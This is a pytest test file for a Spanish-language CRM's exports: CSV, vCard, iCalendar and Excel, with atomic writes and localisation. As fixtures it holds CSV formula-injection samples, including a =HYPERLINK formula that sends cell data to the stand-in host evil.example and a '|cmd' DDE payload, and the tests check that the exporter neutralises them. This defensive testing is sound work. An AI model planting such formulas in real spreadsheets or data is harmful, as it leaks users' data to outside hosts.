"""Exports: CSV that Excel opens safely, vCard and iCalendar that parse back, and the
status report of a source; a failed export leaves nothing behind."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path

import icalendar
import openpyxl
import pytest
import vobject

from contactos import clock, exporting, i18n, rules
from contactos.contacts import ContactData, create_contact
from contactos.exporting import ExportError, neutralize
from contactos.listing import LeadFilter
from contactos.models import Activity, Contact, Lead, Representada, Source
from contactos.rules import NextAction

# The test's days, read from the program's clock as each test starts (see _days).
TODAY = TOMORROW = YESTERDAY = None


@pytest.fixture(autouse=True)
def _days(clock):
    """Today and the days around it as the program's clock reads them, held still for
    the test by the `clock` fixture: a run across midnight reads one day."""
    global TODAY, TOMORROW, YESTERDAY
    today = clock.today()
    TODAY = today
    TOMORROW = today + dt.timedelta(days=1)
    YESTERDAY = today - dt.timedelta(days=1)


ZONE = "America/Mexico_City"

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Clic")'


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def read_ics(path: Path) -> icalendar.Calendar:
    return icalendar.Calendar.from_ical(path.read_bytes())


def events_by_uid(calendar: icalendar.Calendar) -> dict[str, icalendar.Event]:
    return {str(e["UID"]): e for e in calendar.walk("VEVENT")}


@pytest.fixture
def data(db):
    """Two contacts with accents, several e-mails, phones and tags, leads in every state
    and planned activities."""
    source = Source.create(name="Distribuidora Bajío", kind="distributor")
    other = Source.create(name="Referidos", kind="referral")
    rep = Representada.create(name="Herramientas Tolteca", commission_rate=Decimal("8"))
    jose = create_contact(
        ContactData(
            first_name="José",
            last_name="Núñez Peña",
            company="Ferretería El Águila, S.A. de C.V.",
            job_title="Gerente de compras",
            address="Av. Juárez 10, int. 3",
            city="Mérida",
            region="Yucatán",
            postal_code="97000",
            country="MX",
            notes="Prefiere WhatsApp; llamar después de las 10.",
            emails=["jose@aguila.mx", "compras@aguila.mx"],
            phones=["55 1234 5678", "33 3616 1234"],
            tags=["clientes VIP", "ferretería"],
        ),
        country="MX",
    )
    evil = create_contact(
        ContactData(first_name=HYPERLINK, notes="+cmd", company="@SUM(A1:A9)"), country="MX"
    )
    evil_id = evil.id
    Contact.update(job_title="-2+3", address="\tTab", city="\rCR").where(
        Contact.id == evil_id
    ).execute()
    plain = rules.create_lead(
        jose,
        "Compresores de 10 HP",
        NextAction("Llamar para la cotización", TOMORROW),
        source=source,
        representada=rep,
        value="129500",
        received_at=dt.datetime.combine(YESTERDAY, dt.time(9, 0)),
    )
    rules.log_activity(
        plain,
        "call",
        done_at=dt.datetime.combine(YESTERDAY, dt.time(13, 30)),
        next_action=NextAction("Llamar para la cotización", TOMORROW),
    )
    visit = rules.create_lead(
        jose,
        "Taladros",
        NextAction("Mostrar el catálogo", TODAY + dt.timedelta(days=3), "visit", dt.time(10, 30)),
        source=source,
        value="24500.50",
    )
    with clock.fixed_at(TODAY - dt.timedelta(days=5)):  # (planned then: now overdue)
        overdue = rules.create_lead(
            evil, "Guantes", NextAction("Confirmar pedido", TODAY - dt.timedelta(days=5))
        )
    far = rules.create_lead(
        jose, "Montacargas", NextAction("Llamar", TODAY + dt.timedelta(days=200)), source=other
    )
    won = rules.create_lead(
        jose,
        "Brocas",
        NextAction("Llamar", TOMORROW),
        source=source,
        received_at=dt.datetime.combine(YESTERDAY, dt.time(9, 30)),  # (won yesterday)
    )
    rules.win(won, "purchase-order", YESTERDAY, "OC-77", schedule_reorder=False)
    lost = rules.create_lead(
        evil, "Esmeriles", NextAction("Llamar", TOMORROW), source=source, value="5000"
    )
    rules.lose(lost, "bought-elsewhere", "Ya le compramos a otro proveedor, más barato.")
    planned_visit = rules.plan_activity(
        jose,
        "visit",
        dt.datetime.combine(TODAY + dt.timedelta(days=7), dt.time(16, 0)),
        lead=visit,
        subject="Demostración",
        place="Planta Umán, nave 2",
    )
    planned_day = rules.plan_activity(
        evil, "task", dt.datetime.combine(TODAY + dt.timedelta(days=2), dt.time(0, 0))
    )
    late_activity = rules.plan_activity(
        jose, "call", dt.datetime.combine(TODAY - dt.timedelta(days=10), dt.time(9, 0))
    )
    beyond = rules.plan_activity(
        jose, "call", dt.datetime.combine(TODAY + dt.timedelta(days=90), dt.time(9, 0))
    )
    return {
        "source": source,
        "jose": jose,
        "evil_id": evil_id,
        "plain": plain,
        "visit": visit,
        "overdue": overdue,
        "far": far,
        "won": won,
        "lost": lost,
        "planned_visit": planned_visit,
        "planned_day": planned_day,
        "late_activity": late_activity,
        "beyond": beyond,
    }


# --- neutralize -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+52 55 1234 5678", "'+52 55 1234 5678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("|cmd", "'|cmd"),  # a DDE payload
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # full-width ＝ ＋ － ＠
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("José", "José"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


# --- Contacts as CSV --------------------------------------------------------------------


def test_contacts_csv_bom_crlf_and_round_trip(data, tmp_path):
    path = tmp_path / "contactos.csv"
    assert exporting.export_contacts_csv(path) == 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.split(b"\r\n")
    assert len(lines) == 4 and lines[-1] == b""  # header, two rows, final CRLF
    rows = read_csv(path)
    assert rows[0][:3] == ["Name", "First name", "Last name"]
    by_first = {row[1]: row for row in rows[1:]}
    jose = by_first["José"]
    assert jose[0] == "José Núñez Peña"
    assert jose[3] == "Ferretería El Águila, S.A. de C.V."
    assert jose[5].split("; ") == ["jose@aguila.mx", "compras@aguila.mx"]
    # Phones in display format, neutralised because they start with "+".
    assert jose[6] == "'+52 55 1234 5678; +52 33 3616 1234"
    assert jose[8] == "Mérida"
    assert jose[12] == "clientes VIP; ferretería"


def test_excel_dangerous_cells_are_neutralised(data, tmp_path):
    path = tmp_path / "contactos.csv"
    exporting.export_contacts_csv(path)
    for row in read_csv(path):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    evil = next(row for row in read_csv(path)[1:] if row[1] != "José")
    assert evil[0] == "'" + HYPERLINK
    assert evil[1] == "'" + HYPERLINK
    assert evil[3] == "'@SUM(A1:A9)"
    assert evil[4] == "'-2+3"
    assert evil[7] == "'\tTab"
    assert evil[8] == "'\rCR"
    assert evil[13] == "'+cmd"


def test_contacts_csv_subset_keeps_the_order_given(data, tmp_path):
    path = tmp_path / "dos.csv"
    ids = [data["evil_id"], data["jose"].id, 999_999]
    assert exporting.export_contacts_csv(path, ids) == 2
    assert [row[1] for row in read_csv(path)[1:]] == ["'" + HYPERLINK, "José"]
    assert exporting.export_contacts_csv(tmp_path / "vacio.csv", []) == 0
    assert len(read_csv(tmp_path / "vacio.csv")) == 1


# --- Leads as CSV -----------------------------------------------------------------------


def test_leads_csv(data, tmp_path):
    path = tmp_path / "prospectos.csv"
    assert exporting.export_leads_csv(path) == Lead.select().count() == 6
    rows = read_csv(path)
    header = rows[0]
    assert header[:2] == ["Lead ID", "Opportunity"] and header[-1] == "Prospect's words"
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows[1:]}

    plain = by_id[data["plain"].id]
    assert plain["Status"] == "Open"
    assert plain["Stage"] == "New"
    assert plain["Next action"] == "Llamar para la cotización"
    assert plain["Due"] == TOMORROW.isoformat()
    assert plain["Value"] == "129500.00"
    assert plain["Representada"] == "Herramientas Tolteca"
    assert plain["Source"] == "Distribuidora Bajío"
    assert plain["First contact"] == f"{YESTERDAY.isoformat()} 13:30"

    visit = by_id[data["visit"].id]
    assert visit["Due"] == f"{(TODAY + dt.timedelta(days=3)).isoformat()} 10:30"

    won = by_id[data["won"].id]
    assert won["Status"] == "Won"
    assert won["Next action"] == "" and won["Due"] == ""
    assert won["Closed on"] == YESTERDAY.isoformat()
    assert won["Won by / loss reason"] == "Authorized purchase order"

    lost = by_id[data["lost"].id]
    assert lost["Status"] == "Lost"
    assert lost["Won by / loss reason"] == "Bought elsewhere"
    assert lost["Prospect's words"] == "Ya le compramos a otro proveedor, más barato."
    assert lost["Contact"] == "'" + HYPERLINK


def test_leads_csv_follows_the_filter(data, tmp_path):
    path = tmp_path / "abiertos.csv"
    assert exporting.export_leads_csv(path, LeadFilter(status="open")) == 4
    assert {row[4] for row in read_csv(path)[1:]} == {"Open"}


# --- vCard ------------------------------------------------------------------------------


def test_vcard_round_trip(data, tmp_path):
    path = tmp_path / "contactos.vcf"
    assert exporting.export_vcards(path) == 2
    raw = path.read_bytes()
    assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")
    cards = list(vobject.readComponents(raw.decode("utf-8")))
    assert len(cards) == 2
    assert all(card.version.value == "3.0" for card in cards)
    by_uid = {card.uid.value: card for card in cards}

    jose = by_uid[f"contactos-contact-{data['jose'].id}"]
    assert jose.n.value.family == "Núñez Peña"
    assert jose.n.value.given == "José"
    assert jose.fn.value == "José Núñez Peña"
    assert jose.org.value == ["Ferretería El Águila, S.A. de C.V."]
    assert jose.title.value == "Gerente de compras"
    assert [e.value for e in jose.email_list] == ["jose@aguila.mx", "compras@aguila.mx"]
    assert all(e.params["TYPE"] == ["INTERNET"] for e in jose.email_list)
    assert [t.value for t in jose.tel_list] == ["+525512345678", "+523336161234"]
    assert jose.adr.value.street == "Av. Juárez 10, int. 3"
    assert jose.adr.value.city == "Mérida"
    assert jose.adr.value.region == "Yucatán"
    assert jose.adr.value.code == "97000"
    assert jose.note.value == "Prefiere WhatsApp; llamar después de las 10."
    assert jose.categories.value == ["clientes VIP", "ferretería"]

    evil = by_uid[f"contactos-contact-{data['evil_id']}"]
    assert evil.fn.value == HYPERLINK  # a vCard is not a spreadsheet: kept as written
    assert evil.note.value == "+cmd"


def test_vcard_company_only_contact(db, tmp_path):
    company = create_contact(ContactData(company="Tlapalería Reforma"))
    path = tmp_path / "empresa.vcf"
    assert exporting.export_vcards(path, [company.id]) == 1
    (card,) = vobject.readComponents(path.read_text(encoding="utf-8"))
    assert card.fn.value == "Tlapalería Reforma"
    assert card.org.value == ["Tlapalería Reforma"]
    assert card.contents["x-abshowas"][0].value == "COMPANY"


# --- iCalendar --------------------------------------------------------------------------


def test_ics_has_one_event_per_follow_up(data, tmp_path):
    path = tmp_path / "seguimientos.ics"
    count = exporting.export_followups_ics(path, tzid=ZONE)
    calendar = read_ics(path)
    assert str(calendar["PRODID"]) == "-//Contactos//ES"
    assert str(calendar["VERSION"]) == "2.0"
    assert str(calendar["CALSCALE"]) == "GREGORIAN"
    events = events_by_uid(calendar)
    expected = {
        f"contactos-lead-{data['plain'].id}-next@contactos",
        f"contactos-lead-{data['visit'].id}-next@contactos",
        f"contactos-lead-{data['overdue'].id}-next@contactos",
        f"contactos-activity-{data['planned_visit'].id}@contactos",
        f"contactos-activity-{data['planned_day'].id}@contactos",
        f"contactos-activity-{data['late_activity'].id}@contactos",
    }
    assert set(events) == expected
    assert count == len(calendar.walk("VEVENT")) == 6
    for event in events.values():
        assert isinstance(event.decoded("DTSTAMP"), dt.datetime)

    # An all-day next action (no time), dated at its due day, without an alarm.
    plain = events[f"contactos-lead-{data['plain'].id}-next@contactos"]
    assert plain.decoded("DTSTART") == TOMORROW
    assert not isinstance(plain.decoded("DTSTART"), dt.datetime)
    assert plain.decoded("DTEND") == TOMORROW + dt.timedelta(days=1)
    assert not plain.walk("VALARM")
    assert str(plain["SUMMARY"]) == (
        "Call: Llamar para la cotización — José Núñez Peña (Compresores de 10 HP)"
    )
    description = str(plain["DESCRIPTION"])
    assert "Ferretería El Águila, S.A. de C.V." in description
    assert "+52 55 1234 5678" in description
    assert "jose@aguila.mx" in description and "compras@aguila.mx" in description
    assert "129,500.00 MXN" in description
    assert "LOCATION" not in plain

    # A timed visit: 30 minutes in the given zone, at the contact's address, with an alarm.
    visit = events[f"contactos-lead-{data['visit'].id}-next@contactos"]
    start = visit.decoded("DTSTART")
    assert start.replace(tzinfo=None) == dt.datetime.combine(
        TODAY + dt.timedelta(days=3), dt.time(10, 30)
    )
    assert visit["DTSTART"].params["TZID"] == ZONE
    assert visit.decoded("DTEND") - start == dt.timedelta(minutes=30)
    assert str(visit["LOCATION"]) == "Av. Juárez 10, int. 3, 97000 Mérida, Yucatán"
    (alarm,) = visit.walk("VALARM")
    assert alarm.decoded("TRIGGER") == dt.timedelta(minutes=-30)
    assert str(alarm["ACTION"]) == "DISPLAY"
    assert [str(tz["TZID"]) for tz in calendar.walk("VTIMEZONE")] == [ZONE]

    # Overdue ones are in, on the day they were due.
    overdue = events[f"contactos-lead-{data['overdue'].id}-next@contactos"]
    assert overdue.decoded("DTSTART") == TODAY - dt.timedelta(days=5)
    late = events[f"contactos-activity-{data['late_activity'].id}@contactos"]
    assert late.decoded("DTSTART").date() == TODAY - dt.timedelta(days=10)

    # Planned activities: a visit at its place; a midnight one is a whole-day event.
    planned = events[f"contactos-activity-{data['planned_visit'].id}@contactos"]
    assert str(planned["LOCATION"]) == "Planta Umán, nave 2"
    assert str(planned["SUMMARY"]) == "Visit: Demostración — José Núñez Peña (Taladros)"
    assert planned.decoded("DTSTART").time() == dt.time(16, 0)
    day = events[f"contactos-activity-{data['planned_day'].id}@contactos"]
    assert day.decoded("DTSTART") == TODAY + dt.timedelta(days=2)
    assert str(day["SUMMARY"]) == "Task — " + HYPERLINK
    assert not day.walk("VALARM")


def test_ics_uids_are_stable_and_follow_a_reschedule(data, tmp_path):
    first, second = tmp_path / "1.ics", tmp_path / "2.ics"
    exporting.export_followups_ics(first, tzid=ZONE)
    rules.reschedule(data["plain"], TODAY + dt.timedelta(days=4))
    exporting.export_followups_ics(second, tzid=ZONE)
    before, after = events_by_uid(read_ics(first)), events_by_uid(read_ics(second))
    assert set(before) == set(after)
    uid = f"contactos-lead-{data['plain'].id}-next@contactos"
    assert after[uid].decoded("DTSTART") == TODAY + dt.timedelta(days=4)


def test_ics_window(data, tmp_path):
    path = tmp_path / "largo.ics"
    assert exporting.export_followups_ics(path, days=365, tzid=ZONE) == 8  # + far, beyond
    short = tmp_path / "corto.ics"
    # Only what is overdue or due through tomorrow.
    assert exporting.export_followups_ics(short, start=TODAY, days=1, tzid=ZONE) == 3


def test_ics_floating_time_without_a_system_zone(data, tmp_path, monkeypatch):
    monkeypatch.setattr(exporting.calendar, "system_timezone", lambda: None)
    path = tmp_path / "flotante.ics"
    exporting.export_followups_ics(path)
    calendar = read_ics(path)
    assert not calendar.walk("VTIMEZONE")
    visit = events_by_uid(calendar)[f"contactos-lead-{data['visit'].id}-next@contactos"]
    assert visit.decoded("DTSTART").tzinfo is None
    assert "TZID" not in visit["DTSTART"].params


def test_the_calendar_zone_is_the_programs(monkeypatch):
    monkeypatch.setenv(clock.ENV_ZONE, ZONE)
    assert str(exporting.system_timezone()) == ZONE


def test_no_zone_when_the_system_names_none(monkeypatch):
    """Where the system's zone cannot be read (tzlocal fails), the calendar writes
    floating times rather than guess UTC; the rest of the program counts in UTC."""
    import tzlocal

    def unreadable():
        raise LookupError("no zone")

    monkeypatch.delenv(clock.ENV_ZONE, raising=False)
    monkeypatch.setattr(tzlocal, "get_localzone", unreadable)
    assert exporting.system_timezone() is None
    assert str(clock.local_zone()) == "UTC"


def test_the_calendar_is_stamped_by_the_programs_clock(data, tmp_path, clock):
    clock.advance(dt.timedelta(hours=5))  # (not the real time any more)
    path = tmp_path / "sello.ics"
    exporting.export_followups_ics(path, tzid=ZONE)
    stamps = {event.decoded("DTSTAMP") for event in read_ics(path).walk("VEVENT")}
    assert stamps == {clock.aware(clock.now()).astimezone(dt.UTC).replace(microsecond=0)}


# --- The source report ------------------------------------------------------------------


def test_source_report_rows(data):
    Lead.update(listed_on=dt.date(2025, 11, 3)).where(Lead.id == data["plain"].id).execute()
    rows = exporting.source_report(data["source"].id)
    assert [row["lead_id"] for row in rows] == [
        data[k].id for k in ("plain", "won", "visit", "lost")
    ]
    by_id = {row["lead_id"]: row for row in rows}
    plain = by_id[data["plain"].id]
    assert plain["status"] == "open" and plain["status_label"] == "Open"
    assert plain["received"] == YESTERDAY
    assert plain["listed_on"] == dt.date(2025, 11, 3)  # its date in the distributor's list
    assert plain["first_contact"] == YESTERDAY
    assert plain["response_hours"] == 4.5
    assert plain["stage"] == "New"
    assert plain["value"] == Decimal("129500")
    assert plain["outcome"] == "" and plain["closed_on"] is None

    won = by_id[data["won"].id]
    assert won["status_label"] == "Won"
    assert won["outcome"] == "Authorized purchase order"
    assert won["act"] == "purchase-order"
    assert won["closed_on"] == YESTERDAY
    assert won["loss_reason"] == "" and won["prospect_words"] == ""

    lost = by_id[data["lost"].id]
    assert lost["status_label"] == "Lost"
    assert lost["loss_reason"] == "bought-elsewhere"
    assert lost["loss_reason_label"] == lost["outcome"] == "Bought elsewhere"
    assert lost["prospect_words"] == "Ya le compramos a otro proveedor, más barato."
    assert lost["closed_on"] == TODAY
    assert lost["contact"] == HYPERLINK


def test_source_report_csv(data, tmp_path):
    path = tmp_path / "reporte.csv"
    assert exporting.export_source_report_csv(path, data["source"].id) == 4
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(path)
    header = rows[0]
    assert header[:3] == ["Opportunity", "Contact", "Company"]
    lost = dict(zip(header, rows[4], strict=True))
    assert lost["Opportunity"] == "Esmeriles"
    assert lost["Contact"] == "'" + HYPERLINK
    assert lost["Company"] == "'@SUM(A1:A9)"
    assert lost["Status"] == "Lost"
    assert lost["Loss reason"] == "Bought elsewhere"
    assert lost["Value"] == "5000.00"
    assert "Date in the list" in header


def test_source_report_xlsx(data, tmp_path):
    path = tmp_path / "reporte.xlsx"
    assert exporting.export_source_report_xlsx(path, data["source"].id) == 4
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Leads", "Summary"]
    sheet = book["Leads"]
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header[0] == "Opportunity" and "Loss reason" in header
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.max_row == 5
    assert all(sheet.column_dimensions[c].width >= 8 for c in "ABCDEFGHIJKLMN")
    col = {name: i for i, name in enumerate(header)}
    plain = [cell for cell in sheet[2]]
    assert plain[col["Opportunity"]].value == "Compresores de 10 HP"
    received = plain[col["Received"]]
    assert received.is_date and received.value.date() == YESTERDAY
    value = plain[col["Value"]]
    assert value.value == 129500 and value.data_type == "n"
    assert value.number_format == "#,##0.00"
    assert plain[col["Response time (hours)"]].value == 4.5
    lost = [cell for cell in sheet[5]]
    # Text that looks like a formula is stored as text, never as a formula.
    assert lost[col["Contact"]].value == HYPERLINK
    assert lost[col["Contact"]].data_type == "s"
    assert lost[col["Loss reason"]].value == "Bought elsewhere"
    assert lost[col["Closed on"]].value.date() == TODAY

    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row[0]}
    assert summary["Source"] == "Distribuidora Bajío"
    assert summary["Leads"] == 4
    assert summary["Open"] == 2
    assert summary["Real opportunities"] == 4
    assert summary["Won"] == 1
    assert summary["Lost"] == 1
    assert summary["Win rate"] == 0.5
    assert summary["Bought elsewhere"] == 1
    assert summary["Average response time (hours)"] == 4.5


def test_source_report_of_a_source_without_leads(db, tmp_path):
    empty = Source.create(name="Lista vacía")
    path = tmp_path / "vacio.xlsx"
    assert exporting.export_source_report_xlsx(path, empty.id) == 0
    book = openpyxl.load_workbook(path)
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row[0]}
    assert summary["Leads"] == 0 and summary["Win rate"] is None


def test_unknown_source(db, tmp_path):
    with pytest.raises(ExportError, match="no source number 42"):
        exporting.export_source_report_csv(tmp_path / "x.csv", 42)
    assert not (tmp_path / "x.csv").exists()


# --- Failures leave nothing behind ------------------------------------------------------


@pytest.fixture
def out(tmp_path):
    """An empty folder for the files (the database lives in tmp_path/data)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def test_writing_to_a_folder_raises(data, out):
    folder = out / "carpeta"
    folder.mkdir()
    with pytest.raises(ExportError, match="Cannot write .*carpeta: it is a folder"):
        exporting.export_contacts_csv(folder)
    assert list(out.iterdir()) == [folder]
    assert list(folder.iterdir()) == []


def test_writing_to_a_missing_folder_raises(data, out):
    target = out / "no-existe" / "contactos.vcf"
    with pytest.raises(ExportError, match="Cannot write") as info:
        exporting.export_vcards(target)
    assert str(target) in str(info.value)
    assert list(out.iterdir()) == []


def test_permission_denied_raises(data, out, monkeypatch):
    """What a read-only folder does, also when the tests run as root."""

    def deny(path, mode="r", *args, **kwargs):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(exporting.files, "open", deny, raising=False)
    target = out / "contactos.csv"
    with pytest.raises(ExportError, match=r"Cannot write .*contactos\.csv: Permission denied"):
        exporting.export_contacts_csv(target)
    assert list(out.iterdir()) == []


def test_a_failed_rename_keeps_the_old_file(data, out, monkeypatch):
    target = out / "reporte.xlsx"
    target.write_bytes(b"old")

    def refuse(src, dst):
        raise PermissionError(13, "The file is open in Excel")

    monkeypatch.setattr(exporting.files.os, "replace", refuse)
    with pytest.raises(ExportError, match="The file is open in Excel"):
        exporting.export_source_report_xlsx(target, data["source"].id)
    assert target.read_bytes() == b"old"
    assert list(out.iterdir()) == [target]


def test_an_error_halfway_leaves_no_partial_file(data, out, monkeypatch):
    target = out / "contactos.csv"
    real = exporting.files.cell_text

    def fail_on_second_contact(value, decimal="."):
        if value == "Núñez Peña":
            raise RuntimeError("boom")
        return real(value, decimal)

    monkeypatch.setattr(exporting.files, "cell_text", fail_on_second_contact)
    with pytest.raises(RuntimeError):
        exporting.export_contacts_csv(target)
    assert list(out.iterdir()) == []


# --- Spanish ----------------------------------------------------------------------------

SPANISH = {
    ("Export", "Name"): "Nombre",
    ("Export", "Opportunity"): "Oportunidad",
    ("Export", "Status"): "Estado",
    ("Export", "Leads"): "Prospectos",
    ("Export", "Summary"): "Resumen",
    ("Export", "Win rate"): "Tasa de cierre",
    ("Export", "Cannot write {path}: {detail}"): "No se puede escribir {path}: {detail}",
    ("Export", "it is a folder"): "es una carpeta",
    ("Rules", "Lost"): "Perdido",
    ("Rules", "Bought elsewhere"): "Compró en otro lado",
    ("Rules", "Call"): "Llamada",
    ("Stage", "New"): "Nuevo",
}


@pytest.fixture
def spanish():
    i18n.install(lambda context, text: SPANISH.get((context, text), text))
    yield
    i18n.install(None)


def test_spanish_headers_and_labels(data, tmp_path, spanish):
    contacts = tmp_path / "contactos.csv"
    exporting.export_contacts_csv(contacts)
    assert read_csv(contacts)[0][0] == "Nombre"

    report = tmp_path / "reporte.csv"
    exporting.export_source_report_csv(report, data["source"].id)
    rows = read_csv(report)
    assert rows[0][0] == "Oportunidad"
    lost = dict(zip(rows[0], rows[4], strict=True))
    assert lost["Estado"] == "Perdido"
    assert lost["Loss reason"] == "Compró en otro lado"
    assert lost["Stage"] == "Nuevo"

    book_path = tmp_path / "reporte.xlsx"
    exporting.export_source_report_xlsx(book_path, data["source"].id)
    book = openpyxl.load_workbook(book_path)
    assert book.sheetnames == ["Prospectos", "Resumen"]
    labels = [row[0] for row in book["Resumen"].iter_rows(values_only=True)]
    assert "Tasa de cierre" in labels

    ics = tmp_path / "seguimientos.ics"
    exporting.export_followups_ics(ics, tzid=ZONE)
    plain = events_by_uid(read_ics(ics))[f"contactos-lead-{data['plain'].id}-next@contactos"]
    assert str(plain["SUMMARY"]).startswith("Llamada: ")

    folder = tmp_path / "carpeta"
    folder.mkdir()
    with pytest.raises(ExportError, match="No se puede escribir .*: es una carpeta"):
        exporting.export_leads_csv(folder)


# --- Volume: the demo database ----------------------------------------------------------


def test_demo_exports(db, tmp_path):
    from contactos.demo import load_demo

    counts = load_demo()
    assert exporting.export_contacts_csv(tmp_path / "c.csv") == counts["contacts"]
    assert len(read_csv(tmp_path / "c.csv")) == counts["contacts"] + 1
    assert exporting.export_leads_csv(tmp_path / "l.csv") == counts["leads"]
    assert exporting.export_vcards(tmp_path / "c.vcf") == counts["contacts"]
    cards = list(vobject.readComponents((tmp_path / "c.vcf").read_text(encoding="utf-8")))
    assert len(cards) == counts["contacts"]
    assert len({card.uid.value for card in cards}) == counts["contacts"]

    events = exporting.export_followups_ics(tmp_path / "s.ics", tzid=ZONE)
    calendar = read_ics(tmp_path / "s.ics")
    assert events == len(calendar.walk("VEVENT")) > 0
    end = TODAY + dt.timedelta(days=60)
    open_due = (
        Lead.select().where((Lead.status == Lead.OPEN) & (Lead.next_action_due <= end)).count()
    )
    planned = (
        Activity.select()
        .where(~Activity.done & (Activity.due_at < dt.datetime.combine(end, dt.time.max)))
        .count()
    )
    assert events == open_due + planned

    for source in Source.select():
        leads = Lead.select().where(Lead.source == source).count()
        assert len(exporting.source_report(source.id)) == leads
        path = tmp_path / f"r{source.id}.xlsx"
        assert exporting.export_source_report_xlsx(path, source.id) == leads
        book = openpyxl.load_workbook(path)
        assert book["Leads"].max_row == leads + 1


# --- The menus' entry point -------------------------------------------------------------


def test_export_to_follows_kind_and_extension(data, out):
    assert exporting.export_to("contacts", out / "c.csv") == 2
    assert read_csv(out / "c.csv")[0][0] == "Name"
    assert exporting.export_to("contacts", out / "c.VCF") == 2
    assert (out / "c.VCF").read_text(encoding="utf-8").startswith("BEGIN:VCARD")
    assert exporting.export_to("leads", out / "l.csv") == 6
    assert exporting.export_to("followups", out / "s.ics") == 6
    source_id = data["source"].id
    assert exporting.export_to("source-report", out / "r.xlsx", source_id=source_id) == 4
    assert openpyxl.load_workbook(out / "r.xlsx").sheetnames == ["Leads", "Summary"]
    assert exporting.export_to("source-report", out / "r.csv", source_id=source_id) == 4
    assert (out / "r.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    with pytest.raises(ValueError):
        exporting.export_to("everything", out / "x.csv")


def test_exported_headers_are_recognised_by_the_importer():
    """Export -> import: the importer's header guess maps the columns back."""
    mapping = pytest.importorskip("contactos.importing.mapping")
    guessed = [mapping.guess_field(h) for h in exporting.CONTACT_HEADER]
    assert guessed[1:7] == ["first_name", "last_name", "company", "job_title", "email", "phone"]
    assert guessed[7:] == [
        "address",
        "city",
        "region",
        "postal_code",
        "country",
        "tags",
        "notes",
    ]
    assert mapping.guess_field(exporting.LEAD_HEADER[1]) == "lead_title"


# --- The CSV style Excel expects where it runs -------------------------------------------


def test_csv_style_follows_the_decimal_mark():
    assert exporting.csv_style(",") == exporting.SEMICOLON == exporting.CsvStyle(";", ",")
    assert exporting.csv_style(".") == exporting.COMMA == exporting.CsvStyle(",", ".")


@pytest.mark.parametrize(("point", "style"), [(",", ";"), (".", ",")])
def test_csv_style_reads_the_computers_decimal_mark(monkeypatch, point, style):
    """The style comes from the locale's own decimal mark (what localeconv says)."""
    import locale

    monkeypatch.setattr(locale, "setlocale", lambda category, value=None: "xx_XX")
    monkeypatch.setattr(locale, "localeconv", lambda: {"decimal_point": point})
    assert exporting.system_decimal_point() == point
    assert exporting.csv_style().delimiter == style


SPANISH_LOCALE = "es_ES.UTF-8"


def _have_locale(name: str) -> bool:
    import locale

    saved = locale.setlocale(locale.LC_NUMERIC)
    try:
        locale.setlocale(locale.LC_NUMERIC, name)
    except locale.Error:
        return False
    finally:
        locale.setlocale(locale.LC_NUMERIC, saved)
    return True


def test_a_decimal_comma_computer_gets_semicolons_and_decimal_commas(data, tmp_path, monkeypatch):
    """On a computer set up for Spain (a real es_ES locale, as .ci/run installs), the
    exports need no --csv: ';' between cells and 129500,00."""
    import os

    if not _have_locale(SPANISH_LOCALE):
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI must have the {SPANISH_LOCALE} locale (see .ci/run)")
        pytest.skip(f"the {SPANISH_LOCALE} locale is not installed here")
    monkeypatch.setenv("LC_NUMERIC", SPANISH_LOCALE)
    assert exporting.system_decimal_point() == ","
    path = tmp_path / "prospectos.csv"
    exporting.export_to("leads", path)  # (no style given: this computer's)
    header, *rows = path.read_text(encoding="utf-8-sig").splitlines()
    assert header.count(";") == len(exporting.LEAD_HEADER) - 1
    assert any(";129500,00;" in row for row in rows)


def test_leads_csv_for_a_decimal_comma_excel(data, tmp_path):
    """Where Excel reads 1.234,50 (Spain, Argentina, Colombia...), the file has ';' between
    cells and decimal commas; read back, the amounts are the same."""
    from contactos.amounts import parse as parse_amount
    from contactos.importing.readers import read_file

    comma, semicolon = tmp_path / "comma.csv", tmp_path / "semicolon.csv"
    exporting.export_leads_csv(comma, style=exporting.COMMA)
    exporting.export_leads_csv(semicolon, style=exporting.SEMICOLON)
    first = semicolon.read_text(encoding="utf-8-sig").splitlines()[0]
    assert first.count(";") == len(exporting.LEAD_HEADER) - 1 and "," not in first
    read_comma, read_semicolon = read_file(comma), read_file(semicolon)
    assert (read_comma.delimiter, read_semicolon.delimiter) == (",", ";")
    column = read_comma.headers.index("Value")
    values = [row.cells[column] for row in read_comma.rows if row.cells[column]]
    decimal_commas = [row.cells[column] for row in read_semicolon.rows if row.cells[column]]
    assert values and all("." in v and "," not in v for v in values)
    assert decimal_commas == [v.replace(".", ",") for v in values]
    assert [parse_amount(v) for v in decimal_commas] == [parse_amount(v) for v in values]


# --- Contacts and leads as .xlsx ---------------------------------------------------------


def _sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as book:
        name = next(n for n in book.namelist() if n.startswith("xl/worksheets/sheet"))
        return book.read(name).decode("utf-8")


